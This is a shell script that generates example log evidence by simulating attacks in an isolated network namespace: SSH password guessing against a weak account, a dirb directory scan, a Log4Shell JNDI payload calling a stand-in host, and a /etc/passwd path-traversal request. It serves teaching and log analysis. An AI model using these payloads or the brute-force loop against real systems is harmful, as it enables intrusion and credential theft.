#!/usr/bin/env bash
# Records the evidence in examples/ by running real programs (rsyslogd, sshd, nginx, ssh, dirb, curl, gzip, base64)
# in a network namespace of its own, on its loopback device only. Addresses are from the documentation ranges of RFC 5737.
# Needs root and Debian's packages rsyslog openssh-server sshpass nginx-light dirb curl iproute2. Usage: record.sh OUTDIR
set -eu
OUT=$(realpath "${1:?usage: record.sh OUTDIR}")
HERE=$(realpath "$(dirname "$0")")
if [ "${RECORDING:-}" != yes ]; then
    RECORDING=yes exec unshare --net --mount "$0" "$OUT"
fi
WORK=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null || true; userdel -f nightly 2>/dev/null || true; rm -rf "$WORK"' EXIT
chmod 755 "$WORK"
ip link set lo up
SERVER=192.0.2.10 OFFICE=192.0.2.44 GUESSER=198.51.100.23 SCANNER=203.0.113.77
for address in $SERVER $OFFICE $GUESSER $SCANNER; do ip address add $address/32 dev lo; done

# --- a host with an account whose password is weak ---
useradd --no-create-home --home-dir /tmp --shell /bin/bash nightly
echo 'nightly:nightly2026' | chpasswd
cat > "$WORK/rsyslog.conf" <<CONF
module(load="imuxsock" SysSock.Name="$WORK/log")
\$ActionFileDefaultTemplate RSYSLOG_TraditionalFileFormat
*.* $WORK/auth.log
CONF
rsyslogd -n -f "$WORK/rsyslog.conf" -i "$WORK/rsyslog.pid" &
sleep 1
touch /dev/log 2>/dev/null || true
mount --bind "$WORK/log" /dev/log
hostname_before=$(hostname)
mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$WORK/hostkey"
/usr/sbin/sshd -D -p 22 -h "$WORK/hostkey" -o ListenAddress=$SERVER -o UsePAM=yes -o PasswordAuthentication=yes \
    -o MaxStartups=50 -o PidFile="$WORK/sshd.pid" -f /dev/null &
sleep 1
guess() {
    sshpass -p "$3" ssh -b "$1" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
        -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 "$2@$SERVER" "${4:-true}" >/dev/null 2>&1 || true
}
guess $OFFICE nightly nightly2026 uptime
for user in root admin oracle postgres test nightly; do
    for password in 123456 password admin "$user" "${user}123" "${user}2026"; do
        guess $GUESSER "$user" "$password" 'id; uname -a; cat /etc/passwd | wc -l'
    done
done
guess $OFFICE nightly nightly2026 uptime
sleep 1
sed "s/ $hostname_before / web01 /" "$WORK/auth.log" | grep -v rsyslogd > "$OUT/auth.log"

# --- a web server that is read by a person and then scanned ---
mkdir -p "$WORK/www/images" "$WORK/temp"
echo '<h1>Intranet</h1>' > "$WORK/www/index.html"
echo 'User-agent: *' > "$WORK/www/robots.txt"
cat > "$WORK/nginx.conf" <<CONF
daemon off; pid $WORK/nginx.pid; error_log $WORK/error.log; user root;
events {}
http {
  access_log $WORK/access.log combined;
  client_body_temp_path $WORK/temp; proxy_temp_path $WORK/temp; fastcgi_temp_path $WORK/temp;
  uwsgi_temp_path $WORK/temp; scgi_temp_path $WORK/temp;
  server { listen $SERVER:80; root $WORK/www; autoindex off; }
}
CONF
nginx -c "$WORK/nginx.conf" -e "$WORK/error.log" 2>/dev/null &
sleep 1
for path in / /robots.txt /index.html; do
    curl -s -o /dev/null --interface $OFFICE -A 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0' "http://$SERVER$path"
done
ip route change table local local $SERVER dev lo proto kernel scope host src $SCANNER
head -n 160 /usr/share/dirb/wordlists/common.txt > "$WORK/words"
dirb "http://$SERVER/" "$WORK/words" -S -r -a 'DirBuster-1.0-RC1' > /dev/null 2>&1 || true
curl -s -o /dev/null -A '${jndi:ldap://203.0.113.77:1389/Basic/Command/Base64/aWQ=}' "http://$SERVER/"
curl -s -o /dev/null --path-as-is -A 'curl/7.88.1' "http://$SERVER/images/../../../../etc/passwd"
sleep 1
cp "$WORK/access.log" "$OUT/access.log"

# --- a script that hides what it does, packed by the same programs that unpack it ---
python3 "$HERE/pack.py" "$OUT"
